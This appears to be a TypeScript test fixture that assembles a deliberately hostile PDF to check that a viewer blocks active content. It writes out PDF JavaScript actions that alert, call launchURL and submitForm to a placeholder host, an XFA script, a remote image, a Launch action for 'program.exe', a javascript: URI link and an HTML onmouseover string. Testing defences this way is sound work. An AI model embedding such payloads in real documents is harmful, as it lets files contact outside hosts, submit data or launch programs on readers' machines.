import { pdfString } from '../../../mocks/engine/page/writePdf';
import type { ChosenFile } from './pdfDocuments';

/** Nothing answers there; a request to it would fail the test that watches the page. */
const ELSEWHERE = 'http://elsewhere.invalid';

const SCRIPT = `<< /S /JavaScript /JS ${pdfString(
  `app.alert('read'); app.launchURL('${ELSEWHERE}/js'); this.submitForm('${ELSEWHERE}/form');`,
)} >>`;

const stream = (dictionary: string, data: string) =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`;

const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert('xfa')</script></event><draw><value><image href="${ELSEWHERE}/xfa.png"/></value></draw></subform></template></xdp:xdp>`;

/** Covers the whole page, so that any click on it hits them. */
const OVER_ALL = '/Rect [0 0 595 842] /P 4 0 R';

const OBJECTS = [
  `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} /AA << /WC ${SCRIPT} /WP ${SCRIPT} >>
   /Names << /JavaScript << /Names [(start) ${SCRIPT}] >> >>
   /AcroForm << /Fields [8 0 R] /NeedAppearances true /XFA 10 0 R /CO [8 0 R] >> >>`,
  '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /AA << /O ${SCRIPT} >>
   /Resources << /Font << /F1 3 0 R >> /XObject << /Far 6 0 R >> >>
   /Annots [7 0 R 8 0 R 9 0 R 11 0 R] >>`,
  stream(
    '',
    `BT /F1 12 Tf 72 760 Td ${pdfString('A stranger wrote <b onmouseover=alert(1)>this</b>.')} Tj ET
     BT /F1 12 Tf 72 730 Td ${pdfString(`See ${ELSEWHERE}/auto and mail a@elsewhere.invalid`)} Tj ET
     q 100 0 0 100 72 600 cm /Far Do Q`,
  ),
  // A picture whose bytes are on another machine (ISO 32000-1, 7.11.5).
  stream(
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8
     /F << /Type /Filespec /FS /URL /F ${pdfString(`${ELSEWHERE}/picture.png`)} >>`,
    '',
  ),
  `<< /Type /Annot /Subtype /Link ${OVER_ALL} /Border [0 0 3]
   /A << /S /URI /URI ${pdfString(`${ELSEWHERE}/link`)} >> >>`,
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) ${OVER_ALL}
   /AA << /Fo ${SCRIPT} /E ${SCRIPT} /C ${SCRIPT} >> >>`,
  `<< /Type /Annot /Subtype /Screen ${OVER_ALL}
   /A << /S /Launch /F ${pdfString(`${ELSEWHERE}/program.exe`)} >> >>`,
  stream('', XFA),
  `<< /Type /Annot /Subtype /Link ${OVER_ALL}
   /A << /S /URI /URI (javascript:document.title='taken') >> >>`,
];

/** A readable page with every way for a PDF to run something or to contact other machines. */
export function hostilePdf(name: string): ChosenFile {
  let body = '%PDF-1.7\n';
  const offsets = OBJECTS.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const start = body.length;
  const xref = `xref\n0 ${OBJECTS.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  const trailer = `trailer\n<< /Size ${OBJECTS.length + 1} /Root 1 0 R >>\n`;
  const buffer = Buffer.from(`${body}${xref}${trailer}startxref\n${start}\n%%EOF\n`, 'latin1');
  return { name, mimeType: 'application/pdf', buffer };
}
